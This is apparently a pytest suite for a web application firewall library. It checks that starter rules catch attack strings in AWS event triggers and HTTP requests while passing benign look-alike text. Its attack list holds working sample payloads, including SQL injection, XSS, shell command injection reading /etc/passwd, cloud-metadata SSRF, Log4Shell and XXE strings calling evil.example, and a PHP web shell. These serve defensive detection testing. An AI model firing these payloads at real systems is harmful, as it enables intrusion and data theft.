"""The starter rules: what they find in any leaf, what they let through, and what the knobs do."""

from __future__ import annotations

import base64
import json
import re
import subprocess
import sys
from pathlib import Path
from re import _parser as parser  # the only way to see how a pattern repeats
from urllib.parse import quote

import pytest

import casemate_guard
from casemate_guard import guard
from casemate_guard.batch import RejectedError
from casemate_guard.decision import judge, starter
from casemate_guard.events.decode import decode
from casemate_guard.waf.starter import detectors, normal
from casemate_guard.waf.starter.engine import BeyondTimeError, Starter
from casemate_guard.waf.starter.normal import is_free, undone
from casemate_guard.waf.starter.table import pattern as pattern_of
from casemate_guard.waf.starter.table import rows
from casemate_guard.waf.starter.wire import framing, leaves_of
from casemate_waf.message import Request

RULES = Starter()

ATTACKS = {
    "sqli": [
        "' or 1=1--",
        "1 UNION SELECT NULL,NULL",
        "1; DROP TABLE users",
        "1' AND SLEEP(5)#",
        "x' or 'a'='a",
        "1/**/or/**/1=1",
        "\u2018 or \u2019 or 1=1",
        "');waitfor delay '0:0:5'--",
        "admin'--",
        "-1 union/*!50000select*/1,2",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "java\tscript:alert(1)",
        "<svg/onload=alert`1`>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\u003cscript\\u003ealert(1)//",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "top['al'+'ert'](1)",
        '<a href="javascript:alert(1)">',
    ],
    "rce": [
        "; cat /etc/passwd",
        "$(whoami)",
        "`id`",
        "| dir C:\\",
        "() { :;}; echo x",
        "127.0.0.1 && ping -c 3 127.0.0.1",
        "c'a't /et''c/pa''sswd",
        "powershell -enc AAAA",
        ";ls${IFS}-la",
    ],
    "path": [
        "../../../../etc/passwd",
        "..%252f..%252fetc%252fpasswd",
        "..%c0%af..%c0%afboot.ini",
        "..\\..\\windows\\win.ini",
        "php://filter/convert.base64-encode/resource=index",
        "/proc/self/environ",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/",
        "http://2852039166/",
        "http://0xA9FEA9FE/",
        "http://0251.0376.0251.0376/",
        "http://[::ffff:169.254.169.254]/",
        "http://127.1/",
        "gopher://127.0.0.1:6379/_INFO",
        "http://①②⑦.⓪.⓪.①/",
        "http://localhost:6379/",
    ],
    "ssti": ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{''.__class__}}", "{php}x{/php}"],
    "code": [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "<?php system($_GET['c']); ?>",
        "require('child_process').exec('id')",
        "__import__('os').system('id')",
        "Runtime.getRuntime().exec('id')",
        '<!--#exec cmd="id"-->',
        "=cmd|'/c calc'!A0",
        "a@b.example\nBcc: c@d.example",
    ],
    "deser": [
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
        'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
        '!!python/object/apply:os.system ["id"]',
        "gASVKAAAAAAAAACMBXBvc2l4",
    ],
    "xxe": ['<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/x">]><a>&x;</a>'],
    "ldap": ["*)(uid=*))(|(uid=*", "admin)(&)"],
    "xpath": ["' or count(parent::*[position()=1])=0 or 'a'='b"],
    "nosql": ["' || this.password.match(/.*/)//", "true, $where: '1 == 1'"],
    "crlf": ["x\r\nSet-Cookie: a=b", "x%0d%0aLocation:%20http://evil.example"],
    "proto": ["__proto__[admin]=1", "constructor[prototype][a]=1"],
    "graphql": ["query { __schema { types { name } } }"],
    "null": ["file.php\0.png", "%c0%ae%c0%ae"],
}
BENIGN = [
    "O'Brien",
    "having friends over is nice",
    "Please drop the table reservation for tonight",
    "I'd like to select a seat from the union hall and order by phone",
    "Don't worry; be happy -- and call Tom's or Jerry's mother",
    "5' or 6' tall",
    '"foo" OR "bar"',
    "price >= 10 and price <= 20",
    "status = 'active' AND type = 'user'",
    "SELECT * FROM 'iot/topic' WHERE temperature > 50",
    'How do I write "SELECT name FROM users WHERE id = 5" in Django?',
    "cd /tmp && ls -la",
    "ps aux | grep python | awk '{print $2}'",
    "run `npm install && npm start` first",
    "```bash\npip install casemate-guard\n```",
    "Tags: java; python; perl",
    "id;name;date",
    "| id | name | type |",
    "<p>Hello <b>Tom</b>, see <a href='https://example.com'>this</a></p>",
    "JavaScript: The Good Parts",
    "the onload event fires when the page has loaded",
    "use <script> tags to include JavaScript",
    "C:\\Users\\jane\\Documents\\report.docx",
    "/usr/local/bin/python3",
    "../assets/logo.png",
    "https://example.com/search?q=foo+bar&page=2#top",
    "http://localhost:3000/callback",
    "{{ user.name }}",
    "${self:custom.stage}",
    "${env:STAGE}",
    "R&D; Q&A; AT&T",
    "f(x) = x^2 + 2*x - 1",
    "at java.lang.Thread.run(Thread.java:748)",
    "From: a@example.com\nTo: b@example.com\nSubject: hello\n\nHi",
    "wait.......what?",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "Привет, мир; как дела?",
    "l'été; c'est l'heure d'aller",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "cron(0 12 * * ? *)",
    "isn't it 1 or 2?",
    "guns n' roses and ac/dc",
    '"Dr. Who" or "Star Trek"',
    '55" or 65" tv',
    "<s:Envelope xmlns:s='http://schemas.example/'><s:Body><Name>O'Brien &amp; Co</Name></s:Body></s:Envelope>",
    "said: run `ls -la` & see",
    "filter @message like /ERROR/ | stats count(*) by bin(5m)",
]


def found(text: str, rules: Starter = RULES) -> set[str]:
    return {hit.rule for hit in rules(decode({"q": text}).leaves)}


@pytest.mark.parametrize(("family", "text"), [(family, text) for family, texts in ATTACKS.items() for text in texts])
def test_an_attack_is_found(family: str, text: str) -> None:
    assert found(text), f"{family}: {text}"


@pytest.mark.parametrize("text", BENIGN)
def test_what_only_looks_like_one_is_not(text: str) -> None:
    assert found(text) == set()


@pytest.mark.parametrize("attack", ["' or 1=1--", "<script>alert(1)</script>", "; cat /etc/passwd"])
@pytest.mark.parametrize("trigger", ["http", "sqs", "sns", "s3", "kinesis", "dynamodb", "eventbridge", "direct"])
def test_it_is_found_in_every_trigger(attack: str, trigger: str) -> None:
    body = json.dumps({"deep": [{"text": attack}]})
    events: dict[str, object] = {
        "http": {
            "version": "2.0",
            "routeKey": "$default",
            "rawPath": "/",
            "requestContext": {"http": {}},
            "body": body,
        },
        "sqs": {"Records": [{"eventSource": "aws:sqs", "messageId": "1", "body": body}]},
        "sns": {"Records": [{"EventSource": "aws:sns", "Sns": {"Message": attack, "MessageId": "1"}}]},
        "s3": {
            "Records": [{"eventSource": "aws:s3", "s3": {"object": {"key": quote(attack)}, "bucket": {"name": "b"}}}]
        },
        "kinesis": {
            "Records": [{"eventSource": "aws:kinesis", "kinesis": {"data": base64.b64encode(body.encode()).decode()}}]
        },
        "dynamodb": {"Records": [{"eventSource": "aws:dynamodb", "dynamodb": {"NewImage": {"a": {"S": attack}}}}]},
        "eventbridge": {"detail-type": "a", "source": "b", "account": "1", "detail": {"a": attack}},
        "direct": {"a": [attack]},
    }
    assert judge(decode(events[trigger]), starter()).verdict == "reject"


def test_one_hostile_record_of_a_batch_is_told_from_the_others() -> None:
    bodies = ("fine", "<script>alert(1)</script>", "' or 1=1--", "O'Brien")
    event = {"Records": [{"eventSource": "aws:sqs", "messageId": str(n), "body": b} for n, b in enumerate(bodies)]}
    decision = judge(decode(event), starter())
    assert (decision.verdict, decision.refused) == ("quarantine", frozenset({1, 2}))


def test_the_guard_inspects_without_being_asked() -> None:
    protected = guard(budgets=None)(lambda event, _context: event)
    assert protected({"a": "O'Brien"}, None) == {"a": "O'Brien"}
    with pytest.raises(RejectedError):
        protected({"a": "' or 1=1--"}, None)
    assert guard(inspect=None)(lambda event, _context: event)({"a": "' or 1=1--"}, None)


def test_nothing_is_imported_before_the_first_event() -> None:
    program = (
        f"import sys; sys.path.insert(0, {str(Path(casemate_guard.__file__).parents[1])!r})\n"
        "from casemate_guard import guard\nhandler = guard(mode='enforce')(lambda event, context: 1)\n"
        "before = any('.waf' in name for name in sys.modules)\nhandler({'a': 'b'}, None)\n"
        "print(before, 'casemate_guard.waf.starter.engine' in sys.modules, 'casemate_guard.waf.starter.detectors' in sys.modules)"
    )
    done = subprocess.run([sys.executable, "-I", "-c", program], capture_output=True, text=True, check=True)
    assert done.stdout.split() == ["False", "True", "False"]


@pytest.mark.parametrize("name", ["$ne", "filter[$where]", "__proto__"])
def test_names_count_too(name: str) -> None:
    assert RULES(decode({name: 1}).leaves)
    assert not RULES(decode({"$schema": 1, "$ref": 2, "constructor": "Ferrari"}).leaves)
    assert RULES(decode({"constructor": {"prototype": {"admin": True}}}).leaves)


def test_a_mention_in_prose_is_no_attempt_but_an_attack_in_prose_is_one() -> None:
    prose = "The file /etc/nginx/nginx.conf on the server is the one that you should edit with care."
    assert found(prose) == set()
    assert found(f"{prose} ' or 1=1--")
    assert found(f"{prose} <img src=x onerror=alert(1)>")
    assert found(f"{prose} ; cat /etc/passwd", Starter(paranoia=3))


def test_paranoia_asks_for_less() -> None:
    text = "http://localhost:3000/callback"
    assert found(text) == set()
    assert found(text, Starter(paranoia=3)) == {"ssrf-local"}
    with pytest.raises(ValueError, match="paranoia level 5"):
        Starter(paranoia=5)


def test_a_rule_or_a_family_can_be_off_or_only_observe() -> None:
    leaves = decode({"q": "' or 1=1--"}).leaves
    assert Starter(modes={"sqli": "off"})(leaves) == []
    hits = Starter(modes={"sqli": "observe"})(leaves)
    assert hits
    assert {hit.mode for hit in hits} == {"observe"}
    observed = judge(decode({"q": "' or 1=1--"}), starter(modes={"sqli": "observe"}))
    assert observed.verdict == "allow"
    assert observed.reasons
    assert Starter(modes={"sqli-tautology": "off"})(leaves)


def test_beyond_its_time_it_raises_and_the_guard_refuses() -> None:
    ticks = iter(range(100))
    slow = Starter(seconds=0.5, clock=lambda: next(ticks))
    with pytest.raises(BeyondTimeError):
        slow(decode({"q": "O'Brien and son"}).leaves)
    decision = judge(decode({"q": "O'Brien and son"}), slow)
    assert (decision.verdict, decision.reasons[0].what) == ("reject", "engine-failure:BeyondTimeError")


def test_an_attack_behind_much_text_is_found() -> None:
    assert found("the quick brown fox " * 5000 + "<script>alert(1)</script>")
    assert found("a" * 9000 + "' union select 1,2--")


@pytest.mark.parametrize(
    "request_",
    [
        Request(uri=b"/?q=%27%20or%201%3D1--"),
        Request(uri=b"/../../etc/passwd"),
        Request(uri=b"/" + base64.b64encode(b"<script>alert(1)</script>").rstrip(b"=")),
        Request(headers=((b"User-Agent", b"sqlmap/1.7"),)),
        Request(headers=((b"X-Api-Version", b"${jndi:ldap://evil.example/a}"),)),
        Request(headers=((b"Cookie", b"a=1; b=x' or 1=1--"),)),
        Request(method=b"POST", headers=((b"Content-Type", b"text/xml"),), body=b"<a>&#x27; or 1=1--</a>"),
        Request(method=b"POST", headers=((b"Content-Type", b"text/xml"),), body=b'<a b="/etc/passwd">x</a>'),
        Request(method=b"POST", headers=((b"Content-Type", b"text/xml"),), body=b"<a><b>admin'--</b></a>"),
    ],
)
def test_a_request_is_taken_apart(request_: Request) -> None:
    assert RULES(leaves_of(request_).leaves)


def test_a_scanner_is_known_by_its_user_agent_only() -> None:
    assert not RULES(leaves_of(Request(headers=((b"Referer", b"https://docs.example/nikto"),))).leaves)
    assert not RULES(decode({"tool": "sqlmap"}).leaves)


def test_framing_that_proxies_disagree_about() -> None:
    assert framing(Request(headers=((b"Content-Length", b"3"), (b"Transfer-Encoding", b"chunked")))) == {
        "wire-smuggling": 5
    }
    assert framing(Request(headers=((b"Transfer-Encoding", b"xchunked"),))) == {"wire-smuggling": 5}
    assert framing(Request(headers=((b"Content-Length ", b"3"),)))["wire-header-name"] == 5
    assert framing(Request(headers=((b"Host", b"a"), (b"Host", b"b")))) == {"wire-hosts": 5}
    assert framing(Request(method=b"TRACE")) == {"wire-method": 5}
    assert framing(Request(method=b"POST", headers=((b"Content-Length", b"3"),), body=b"abc")) == {}


def test_escapes_are_undone_three_layers_deep_and_no_more() -> None:
    assert undone("&lt;%26lt;\\u003c") == "<<<"
    assert undone("%25253c") == "<"
    assert undone("%2525253c") == "%3c"
    assert undone("À®À¯") == "./"
    assert undone("a&#xD800;b") == "ab"


def test_free_text_is_prose_or_code_and_not_a_payload() -> None:
    assert is_free("the meeting is at the town hall")
    assert is_free("$ make test && make lint")
    assert not is_free("' union all select user, password from users where 1=1--")
    assert not is_free("admin")


def test_patterns_repeat_within_bounds_and_compile() -> None:
    """No `*` or `+`: linear time. Detectors' patterns too."""

    def unbounded(parsed: object) -> bool:
        for operator, argument in parsed:  # type: ignore[attr-defined]
            if operator in {parser.MAX_REPEAT, parser.MIN_REPEAT, parser.POSSESSIVE_REPEAT}:
                if argument[1] is parser.MAXREPEAT or unbounded(argument[2]):
                    return True
            elif operator is parser.SUBPATTERN:
                if unbounded(argument[3]):
                    return True
            elif operator is parser.BRANCH:
                if any(unbounded(branch) for branch in argument[1]):
                    return True
            elif operator in {parser.ASSERT, parser.ASSERT_NOT} and unbounded(argument[1]):
                return True
        return False

    patterns = [row[4] for row in rows() if not row[4].startswith("= ")]
    used = Path(detectors.__file__).read_text("utf-8") + Path(normal.__file__).read_text("utf-8")
    words = set(re.findall(r'pattern\("(\w+)"\)', used)) | {"closes", "opens", "trails", "clauses"}
    patterns += [pattern_of(word).pattern for word in words]
    assert len(patterns) > 80
    for pattern in patterns:
        re.compile(pattern)
        assert not unbounded(parser.parse(pattern)), pattern


def test_the_table_is_in_order() -> None:
    seen = set()
    for name, score, free, literals, pattern, _ in rows():
        assert name not in seen, "a rule stands once"
        seen.add(name)
        assert 0 <= free <= score <= 5, name
        assert all(literals), f"{name} has an empty literal, which is everywhere"
        assert not any(literal != literal.lower() for literal in literals), f"{name}: texts are in lower case"
        assert not pattern.startswith("= ") or pattern[2:] in detectors.BY_NAME
